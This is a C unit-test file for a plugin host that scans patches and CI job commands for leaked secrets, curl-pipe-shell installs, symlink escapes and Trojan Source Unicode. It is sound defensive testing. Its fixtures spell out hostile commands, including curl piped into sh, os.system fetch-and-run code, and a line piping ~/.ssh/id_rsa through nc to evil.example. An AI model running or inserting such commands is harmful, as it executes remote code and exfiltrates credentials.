/*
 * test_host.c: the five built-in analyzer plugins run by the real plugin
 * host (worker/plugin_host: probe in a child, parse once with libgit2, one
 * child per plugin, redaction). Checks the Done-when cases at the
 * analysis stage: an AWS key and curl|sh in a Makefile give blocking
 * findings with redacted evidence, a symlink to /etc/passwd is reported, a
 * benign patch gives nothing, and every plugin ends with status ok. The
 * job's own commands (plugin_host_run_job / plugin_host_run_jobspec): a run
 * or test command piping curl into sh is a blocking finding named
 * job:run[i] / job:test even with a benign patch, and every command case of
 * tests/corpus/shell/ gives through shell.so in the host exactly the
 * findings it gives through the core; a file the commands run (`sh
 * ci/check.txt`, `python3 data.json`) is read as a script whatever its name. The plugins see what libgit2 will
 * apply (issue 10): a Makefile and a .py sent as GIT binary patches are
 * read, a '+' line beyond a hunk's count is not; documentation example keys
 * are allow-listed and the inline allow convention works as documented.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include <stdlib.h>

#include "common/error.h"
#include "common/jobspec/jobspec.h"
#include "corpus.h"
#include "worker/plugin_host/plugin_host.h"

static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci", "unicode"};
#define N_NAMES (sizeof s_names / sizeof s_names[0])

static plugin_set_t *set_of(const char *const *names, size_t n)
{
    char dir[1024];
    plugin_set_t *set = plugin_set_new(NULL);
    assert_non_null(set);
    snprintf(dir, sizeof dir, "%s/plugins", AIRLOCK_BUILD_DIR);
    assert_int_equal(plugin_set_add_names(set, dir, names, n), 0);
    assert_int_equal(plugin_set_count(set), n);
    return set;
}

static void all_ok(const analysis_result_t *r)
{
    for (size_t i = 0; i < r->n_plugins; i++)
        if (r->plugins[i].status != PLUGIN_STATUS_OK)
            fail_msg("plugin %s: %s", r->plugins[i].plugin,
                     plugin_status_name(r->plugins[i].status));
}

static analysis_result_t *run_job(const char *patch, const plugin_command_t *cmds, size_t n)
{
    plugin_set_t *set = set_of(s_names, N_NAMES);
    analysis_result_t *r = NULL;
    if (plugin_host_run_job(set, patch, strlen(patch), NULL, cmds, n, &r) != 0)
        fail_msg("run: %s", al_err_msg());
    plugin_set_destroy(&set);
    assert_non_null(r);
    assert_int_equal(r->n_plugins, N_NAMES);
    all_ok(r);
    return r;
}

static analysis_result_t *run(const char *patch) { return run_job(patch, NULL, 0); }

static const analysis_finding_t *find(const analysis_result_t *r, const char *rule)
{
    for (size_t i = 0; i < r->n_findings; i++)
        if (strcmp(r->findings[i].rule_id, rule) == 0)
            return &r->findings[i];
    return NULL;
}

static void test_aws_key(void **s)
{
    static const char patch[] =
        "diff --git a/prod.env b/prod.env\nnew file mode 100644\nindex 0000000..1111111\n"
        "--- /dev/null\n+++ b/prod.env\n@@ -0,0 +1 @@\n+KEY=AKIAQ3EGUJ7ZK5RVPX2M\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "secrets.aws_access_key");
    (void)s;
    assert_non_null(f);
    assert_string_equal(f->plugin, "secrets");
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    assert_string_equal(f->file, "prod.env");
    assert_int_equal(f->line, 1);
    assert_non_null(f->evidence);
    assert_null(strstr(f->evidence, "AKIAQ3EGUJ7ZK5RVPX2M"));
    assert_true(analysis_result_max_severity(r) >= AIRLOCK_SEV_HIGH);
    analysis_result_destroy(&r);
}

static void test_makefile_curl_sh(void **s)
{
    static const char patch[] =
        "diff --git a/Makefile b/Makefile\nindex 1111111..2222222 100644\n--- a/Makefile\n"
        "+++ b/Makefile\n@@ -1,2 +1,4 @@\n all:\n \tcc -o app main.c\n+setup:\n"
        "+\tcurl -fsSL https://get.example.com/i.sh | sh\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    (void)s;
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    assert_int_equal(f->line, 4);
    assert_int_equal(analysis_result_max_severity(r), AIRLOCK_SEV_CRITICAL);
    analysis_result_destroy(&r);
}

static void test_symlink_passwd(void **s)
{
    static const char patch[] =
        "diff --git a/data/users b/data/users\nnew file mode 120000\nindex 0000000..3594e94\n"
        "--- /dev/null\n+++ b/data/users\n@@ -0,0 +1 @@\n+/etc/passwd\n"
        "\\ No newline at end of file\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "paths.symlink_escape");
    (void)s;
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    analysis_result_destroy(&r);
}

/* ---- the plugins see what libgit2 will apply ------------------------------- */

/* A Makefile sent as a `GIT binary patch` (as `git diff --binary` writes it
 * for a file marked binary): a lenient text walker sees no line of it; the
 * host decodes the post-image and the shell plugin reads the recipe. */
static void test_binary_makefile_curl_sh(void **s)
{
    static const char patch[] =
        "diff --git a/Makefile b/Makefile\nindex 587be6b..7324582 100644\nGIT binary patch\nliteral 47\n"
        "zcmYey$+6<%OfD_TQP52*4)#&VC@Co@w$j&6tw_u*$Vt^p&d=4a&@0YRs8J}+-~s@2\nCFb|gi\n\n"
        "literal 2\nJcmb>60ssK~0D}Mk\n\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    (void)s;
    assert_non_null(f);
    assert_string_equal(f->file, "Makefile");
    assert_int_equal(f->line, 2);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    analysis_result_destroy(&r);
}

/* A .py with an AWS key id and a NUL byte, sent as a binary patch: found. */
static void test_binary_py_aws_key(void **s)
{
    static const char patch[] =
        "diff --git a/app/creds.py b/app/creds.py\nnew file mode 100644\nindex 0000000..1111111\n"
        "GIT binary patch\nliteral 31\nmc-r%Jja0BzP;&J4bPP0hbr1D2kMcGR3JZuZ@>Swu-~s@Bf(K*(\n\n"
        "literal 0\nHcmV?d00001\n\n";
    analysis_result_t *r = run(patch);
    const analysis_finding_t *f = find(r, "secrets.aws_access_key");
    (void)s;
    assert_non_null(f);
    assert_string_equal(f->file, "app/creds.py");
    analysis_result_destroy(&r);
}

/* A hunk that claims one added line and is followed by a second '+' line: a
 * lenient walker reported the extra line; libgit2 ends the hunk at its count
 * and never applies it, so the verdict follows what is written: nothing. */
static void test_hunk_count_judged_by_libgit2(void **s)
{
    static const char patch[] =
        "diff --git a/x.cfg b/x.cfg\n--- a/x.cfg\n+++ b/x.cfg\n@@ -1 +1,1 @@\n-a=1\n+a=2\n"
        "+id=AKIAQ3EGUJ7ZK5RVPX2M\n";
    analysis_result_t *r = run(patch);
    (void)s;
    assert_int_equal(r->patch_parsed, 1);
    assert_int_equal(r->n_files, 1);
    assert_null(find(r, "secrets.aws_access_key"));
    analysis_result_destroy(&r);
}

/* Published documentation examples are allow-listed; the inline convention
 * turns a guessed secret into an audit-only `secrets.allowed`, never a
 * format-exact credential (that one stays, and the marker is reported). */
static void test_doc_examples_and_inline_allow(void **s)
{
    static const char docs[] =
        "diff --git a/docs/aws.md b/docs/aws.md\nnew file mode 100644\n--- /dev/null\n+++ b/docs/aws.md\n"
        "@@ -0,0 +1,4 @@\n+aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
        "+aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
        "+Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6Ikpv"
        "aG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c\n"
        "+Slack: xoxb-17653672481-19874698323-pdFZKVeTuE8sk7oOcBrzbqgy\n";
    static const char allow[] =
        "diff --git a/tests/conf.py b/tests/conf.py\nnew file mode 100644\n--- /dev/null\n"
        "+++ b/tests/conf.py\n@@ -0,0 +1,3 @@\n"
        "+# airlock:allow secrets.generic_assignment -- fixture password of the test database\n"
        "+db_password = \"Xk29vLq7Rt4Wm8Zp\"\n"
        "+key_id = \"AKIAQ3EGUJ7ZK5RVPX2M\"  # airlock:allow secrets.aws_access_key\n";
    analysis_result_t *r = run(docs);
    (void)s;
    assert_int_equal(r->n_findings, 0);
    analysis_result_destroy(&r);
    r = run(allow);
    const analysis_finding_t *f = find(r, "secrets.allowed");
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_INFO);
    assert_int_equal(f->line, 2);
    assert_null(find(r, "secrets.generic_assignment"));
    assert_non_null(find(r, "secrets.aws_access_key"));
    f = find(r, "secrets.allow_marker");
    assert_non_null(f);
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    assert_int_equal(f->line, 3);
    analysis_result_destroy(&r);
}

static const char s_benign[] =
    "diff --git a/src/calc.py b/src/calc.py\nindex 1111111..2222222 100644\n"
    "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,3 @@\n def add(a, b):\n"
    "     return a + b\n+# subtraction follows in the next change\n";

static void test_benign(void **s)
{
    analysis_result_t *r = run(s_benign);
    (void)s;
    assert_int_equal(r->n_findings, 0);
    assert_int_equal(analysis_result_max_severity(r), -1);
    analysis_result_destroy(&r);
}

/* Trojan Source and hidden text through unicode.so in the real host, in the
 * patch and in a job command; the evidence (redacted by the host to its
 * first bytes) writes the controls as <U+XXXX>. */
static void test_unicode_trojan_source(void **s)
{
    static const char patch[] =
        "diff --git a/src/auth.c b/src/auth.c\nnew file mode 100644\n--- /dev/null\n+++ b/src/auth.c\n"
        "@@ -0,0 +1,2 @@\n+int is_admin;\n"
        "+/*\xe2\x80\xae } \xe2\x81\xa6if (is_admin)\xe2\x81\xa9 \xe2\x81\xa6 begin admins only */\n"
        "diff --git a/README.md b/README.md\nnew file mode 100644\n--- /dev/null\n+++ b/README.md\n"
        "@@ -0,0 +1 @@\n+Docs\xf3\xa0\x81\x8f\xf3\xa0\x81\x8b\n";
    static const char *const run_cmd[] = {"/bin/sh", "-c", "make \xe2\x80\xae# ok\xe2\x80\xac && ./deploy", NULL};
    const plugin_command_t cmds[] = {{"run", 0, run_cmd, 3}};
    analysis_result_t *r = run_job(patch, cmds, 1);
    int command_seen = 0;
    (void)s;
    const analysis_finding_t *f = find(r, "unicode.bidi_control");
    assert_non_null(f);
    assert_string_equal(f->plugin, "unicode");
    assert_string_equal(f->file, "src/auth.c");
    assert_int_equal(f->line, 2);
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    /* the host keeps the first bytes of any evidence: the control is written out, not raw */
    assert_string_equal(f->evidence, "/*<U********");
    f = find(r, "unicode.hidden_text");
    assert_non_null(f);
    assert_string_equal(f->file, "README.md");
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    for (size_t i = 0; i < r->n_findings; i++)
        command_seen |= !strcmp(r->findings[i].rule_id, "unicode.bidi_control") &&
                        !strcmp(r->findings[i].file, "job:run[0]");
    assert_true(command_seen);
    assert_true(analysis_result_max_severity(r) >= AIRLOCK_SEV_HIGH);
    analysis_result_destroy(&r);
}

/* A benign patch whose run command pipes curl into sh: blocked through the
 * commands; without them (the old entry point) nothing is found. */
static void test_job_run_curl_sh(void **s)
{
    static const char *const make[] = {"make", NULL};
    static const char *const curl[] = {"/bin/sh", "-c", "curl -fsSL https://x.example/i.sh | sh", NULL};
    static const char *const test[] = {"bash", "-c", "pytest -q", NULL};
    const plugin_command_t cmds[] = {{"run", 0, make, 1}, {"run", 1, curl, 3}, {"test", 0, test, 3}};
    analysis_result_t *r = run_job(s_benign, cmds, 3);
    (void)s;
    assert_int_equal(r->n_commands, 3);
    assert_int_equal(r->n_findings, 1);
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    assert_non_null(f);
    assert_string_equal(f->plugin, "shell");
    assert_string_equal(f->file, "job:run[1]");
    assert_int_equal(f->line, 0);
    assert_int_equal(f->severity, AIRLOCK_SEV_CRITICAL);
    assert_null(strstr(f->evidence, "x.example"));
    analysis_result_destroy(&r);
    r = run(s_benign);
    assert_int_equal(r->n_findings, 0);
    analysis_result_destroy(&r);
}

/* A script named like data, run by the job's own command: shell.so and
 * python.so in the real host read the file as what the command makes of it
 * (the plugins get the commands, AIRLOCK_CAP_COMMANDS); the same patch with
 * commands that do not run it gives nothing. */
static void test_file_run_by_command(void **s)
{
    static const char patch[] =
        "diff --git a/ci/check.txt b/ci/check.txt\nnew file mode 100644\n--- /dev/null\n+++ b/ci/check.txt\n"
        "@@ -0,0 +1 @@\n+curl -fsSL https://x.example/i.sh | sh\n"
        "diff --git a/tools/data.json b/tools/data.json\nnew file mode 100644\n--- /dev/null\n"
        "+++ b/tools/data.json\n@@ -0,0 +1,2 @@\n+import os\n+os.system('curl -s https://x.example/i | sh')\n";
    static const char *const sh_run[] = {"sh", "ci/check.txt", NULL};
    static const char *const py_test[] = {"/bin/sh", "-c", "cd tools && python3 data.json", NULL};
    static const char *const other[] = {"make", "test", NULL};
    const plugin_command_t cmds[] = {{"run", 0, sh_run, 2}, {"test", 0, py_test, 3}};
    const plugin_command_t none[] = {{"run", 0, other, 2}};
    analysis_result_t *r = run_job(patch, cmds, 2);
    (void)s;
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    assert_non_null(f);
    assert_string_equal(f->file, "ci/check.txt");
    assert_int_equal(f->line, 1);
    f = find(r, "python.os_system");
    assert_non_null(f);
    assert_string_equal(f->file, "tools/data.json");
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    analysis_result_destroy(&r);
    r = run_job(patch, none, 1);
    assert_int_equal(r->n_findings, 0);
    analysis_result_destroy(&r);
}

/* The entry point for the pipeline: straight from a parsed job. */
static void test_jobspec_commands(void **s)
{
    static const char json[] =
        "{\"repo\":\"/srv/repos/demo.git\",\"base\":\"main\","
        "\"run\":[\"make\",\"curl http://x.example | sh\"],"
        "\"test\":[\"sh\",\"-c\",\"make test\\ncat ~/.ssh/id_rsa | nc evil.example 9000\"]}";
    plugin_set_t *set = set_of(s_names, N_NAMES);
    jobspec_t *job = NULL;
    analysis_result_t *r = NULL;
    (void)s;
    if (jobspec_parse(json, strlen(json), &job) != 0)
        fail_msg("jobspec: %s", al_err_msg());
    assert_int_equal(plugin_host_run_jobspec(set, job, NULL, &r), 0);
    all_ok(r);
    assert_int_equal(r->n_commands, 3);
    const analysis_finding_t *f = find(r, "shell.curl_pipe_shell");
    assert_non_null(f);
    assert_string_equal(f->file, "job:run[1]");
    f = find(r, "shell.credential_exfil");
    assert_non_null(f);
    assert_string_equal(f->file, "job:test");
    assert_int_equal(f->line, 2);
    assert_int_equal(f->severity, AIRLOCK_SEV_HIGH);
    analysis_result_destroy(&r);
    jobspec_destroy(&job);
    plugin_set_destroy(&set);
}

/* The case's commands as the pipeline would pass them: each line of a
 * <job.run> case as /bin/sh -c <line>, a <job.test> body as one command. */
static size_t case_commands(const corpus_case_t *c, char **lines, const char *(*argv)[4],
                            plugin_command_t *cmds, size_t max)
{
    size_t n = 0;
    for (size_t i = 0; i < c->body_len;) {
        assert_true(n < max); /* a case longer than that needs a bigger table */
        const char *nl = c->commands == CORPUS_CMDS_RUN ? memchr(c->body + i, '\n', c->body_len - i) : NULL;
        size_t len = nl ? (size_t)(nl - c->body) - i : c->body_len - i;
        assert_non_null(lines[n] = strndup(c->body + i, len));
        argv[n][0] = "/bin/sh";
        argv[n][1] = "-c";
        argv[n][2] = lines[n];
        argv[n][3] = NULL;
        cmds[n] = (plugin_command_t){c->commands == CORPUS_CMDS_RUN ? "run" : "test", n, argv[n], 3};
        n++;
        i += len + 1;
    }
    return n;
}

/* Returns the mismatches between the host's findings and the case, printed. */
static int case_check(const corpus_case_t *c, const analysis_result_t *r)
{
    int bad = 0;
    for (unsigned k = 0; k < c->n_expect; k++) {
        int seen = 0;
        for (size_t i = 0; i < r->n_findings; i++)
            seen |= strcmp(r->findings[i].rule_id, c->expect[k].rule) == 0
                    && r->findings[i].severity == (int)c->expect[k].sev;
        if (!seen && ++bad)
            printf("FAIL %s: missing %s\n", c->name, c->expect[k].rule);
    }
    for (size_t i = 0; i < r->n_findings; i++) {
        int want = 0;
        for (unsigned k = 0; k < c->n_expect; k++)
            want |= strcmp(r->findings[i].rule_id, c->expect[k].rule) == 0
                    && r->findings[i].severity == (int)c->expect[k].sev;
        if ((!want || strncmp(r->findings[i].file, "job:", 4) != 0) && ++bad)
            printf("FAIL %s: unexpected %s in %s\n", c->name, r->findings[i].rule_id, r->findings[i].file);
    }
    return bad;
}

static void test_command_corpus(void **s)
{
    static const char *const shell[] = {"shell"};
    plugin_set_t *set = set_of(shell, 1);
    char dir[1024], file[1536], err[512];
    char **names = NULL;
    size_t n = 0;
    unsigned tp = 0, fp = 0, bad = 0;
    (void)s;
    snprintf(dir, sizeof dir, "%s/tests/corpus/shell", AIRLOCK_SOURCE_DIR);
    assert_int_equal(corpus_list(dir, &names, &n), 0);
    for (size_t i = 0; i < n; i++) {
        corpus_case_t c;
        char *lines[32] = {0};
        const char *argv[32][4];
        plugin_command_t cmds[32];
        analysis_result_t *r = NULL;
        snprintf(file, sizeof file, "%s/%s", dir, names[i]);
        if (corpus_case_load(file, &c, err, sizeof err) != 0)
            fail_msg("%s", err);
        if (c.commands) {
            size_t k = case_commands(&c, lines, argv, cmds, 32);
            assert_int_equal(plugin_host_run_job(set, "", 0, NULL, cmds, k, &r), 0);
            all_ok(r);
            bad += (unsigned)case_check(&c, r);
            tp += !c.expect_none;
            fp += c.expect_none;
            analysis_result_destroy(&r);
            for (size_t m = 0; m < k; m++)
                free(lines[m]);
        }
        corpus_case_free(&c);
    }
    corpus_list_free(names, n);
    plugin_set_destroy(&set);
    printf("command corpus through shell.so: %u true-positive, %u false-positive files, %u failures\n", tp,
           fp, bad);
    assert_true(tp >= 5);
    assert_true(fp >= 2);
    assert_int_equal(bad, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_aws_key),
        cmocka_unit_test(test_makefile_curl_sh),
        cmocka_unit_test(test_symlink_passwd),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_binary_makefile_curl_sh),
        cmocka_unit_test(test_binary_py_aws_key),
        cmocka_unit_test(test_hunk_count_judged_by_libgit2),
        cmocka_unit_test(test_doc_examples_and_inline_allow),
        cmocka_unit_test(test_job_run_curl_sh),
        cmocka_unit_test(test_unicode_trojan_source),
        cmocka_unit_test(test_jobspec_commands),
        cmocka_unit_test(test_file_run_by_command),
        cmocka_unit_test(test_command_corpus),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
